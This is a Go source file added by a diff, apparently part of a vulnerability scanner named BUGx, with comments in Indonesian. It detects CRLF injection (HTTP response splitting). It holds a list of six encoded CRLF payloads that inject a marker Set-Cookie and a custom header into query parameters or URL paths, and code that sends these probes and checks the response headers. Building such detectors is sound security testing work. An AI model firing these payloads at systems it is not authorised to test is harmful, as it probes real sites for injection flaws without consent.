@@ -0,0 +1,151 @@
+// Package crlf mendeteksi CRLF injection / HTTP response splitting: payload
+// CRLF ter-encode di parameter query atau path yang berakhir sebagai header
+// baru (Set-Cookie atau header penanda) di respons.
+package crlf
+
+import (
+	"context"
+	"net/http"
+	"net/url"
+	"strings"
+
+	"github.com/D0Lv-1N/BUGx/internal/findings"
+	"github.com/D0Lv-1N/BUGx/internal/probe"
+)
+
+// Header yang disisipkan setiap payload.
+const (
+	CookieName = "bugxcrlf"
+	HeaderName = "X-Bugx-Crlf"
+)
+
+// injected: dua header sekaligus; server yang memfilter Set-Cookie kadang
+// tetap meloloskan header lain.
+const injected = "Set-Cookie:" + CookieName + "=1%0d%0a" + HeaderName + ":1"
+
+// Payload adalah satu variasi encoding CRLF.
+type Payload struct {
+	Name  string
+	Value string // sudah ter-encode, dikirim apa adanya
+}
+
+// Payloads adalah variasi bawaan, dari yang paling umum.
+var Payloads = []Payload{
+	{"crlf", "%0d%0a" + injected},
+	{"lf", "%0a" + injected},
+	{"cr", "%0d" + injected},
+	{"double-encoded", "%250d%250a" + injected},
+	{"unicode", "%E5%98%8A%E5%98%8D" + injected}, // U+560A U+560D -> \n \r (Node / Firefox)
+	{"hash-prefix", "%23%0d%0a" + injected},
+}
+
+// Probe adalah satu request uji.
+type Probe struct {
+	URL     string
+	Param   string // nama parameter, atau "path"
+	Payload Payload
+}
+
+// Probes returns request uji untuk target: setiap parameter query diganti
+// payload (parameter lain tetap), atau bila tanpa query payload ditempel
+// di akhir path.
+func Probes(target string) []Probe {
+	u, err := url.Parse(target)
+	if err != nil || u.Host == "" {
+		return nil
+	}
+	var out []Probe
+	if u.RawQuery == "" {
+		base := strings.TrimSuffix(u.Scheme+"://"+u.Host+u.EscapedPath(), "/")
+		for _, p := range Payloads {
+			out = append(out, Probe{URL: base + "/" + p.Value, Param: "path", Payload: p})
+		}
+		return out
+	}
+	pairs := strings.Split(u.RawQuery, "&")
+	prefix := u.Scheme + "://" + u.Host + u.EscapedPath() + "?"
+	for i, pair := range pairs {
+		name, _, _ := strings.Cut(pair, "=")
+		if name == "" {
+			continue
+		}
+		for _, p := range Payloads {
+			q := append([]string(nil), pairs...)
+			q[i] = name + "=" + p.Value
+			out = append(out, Probe{URL: prefix + strings.Join(q, "&"), Param: name, Payload: p})
+		}
+	}
+	return out
+}
+
+// Jenis header yang berhasil disisipkan.
+const (
+	KindSetCookie = "set-cookie"
+	KindHeader    = "header"
+)
+
+// Issue adalah header yang berhasil disisipkan.
+type Issue struct {
+	Probe    Probe
+	Kind     string
+	Header   string // baris header yang muncul di respons
+	Severity string
+	Title    string
+}
+
+// Evaluate memeriksa apakah header sisipan muncul di respons.
+func Evaluate(p Probe, h http.Header) (Issue, bool) {
+	for _, c := range h.Values("Set-Cookie") {
+		if strings.HasPrefix(strings.TrimSpace(c), CookieName+"=") {
+			return Issue{Probe: p, Kind: KindSetCookie, Header: "Set-Cookie: " + c, Severity: findings.SevMedium,
+				Title: "CRLF injection (Set-Cookie)"}, true
+		}
+	}
+	if v := h.Get(HeaderName); v != "" {
+		return Issue{Probe: p, Kind: KindHeader, Header: HeaderName + ": " + v, Severity: findings.SevMedium,
+			Title: "CRLF injection (header)"}, true
+	}
+	return Issue{}, false
+}
+
+// Checker mengirim probe ke satu target.
+type Checker struct {
+	Client *probe.Client
+}
+
+// Check returns header sisipan yang berhasil untuk target. Setelah satu
+// payload berhasil di sebuah parameter, payload lain untuk parameter itu
+// tidak dikirim. Payload sengaja merusak respons (mis. Location yang tidak
+// bisa di-parse client), jadi error satu probe tidak menghentikan probe
+// lain; error baru dikembalikan bila semua probe gagal.
+func (c *Checker) Check(ctx context.Context, target string) ([]Issue, error) {
+	var out []Issue
+	var firstErr error
+	sent, failed := 0, 0
+	done := make(map[string]bool)
+	for _, p := range Probes(target) {
+		if done[p.Param] {
+			continue
+		}
+		sent++
+		resp, err := c.Client.Get(ctx, p.URL, nil)
+		if err != nil {
+			if ctx.Err() != nil {
+				return out, ctx.Err()
+			}
+			if firstErr == nil {
+				firstErr = err
+			}
+			failed++
+			continue
+		}
+		if is, ok := Evaluate(p, resp.Header); ok {
+			out = append(out, is)
+			done[p.Param] = true
+		}
+	}
+	if sent > 0 && failed == sent {
+		return out, firstErr
+	}
+	return out, nil
+}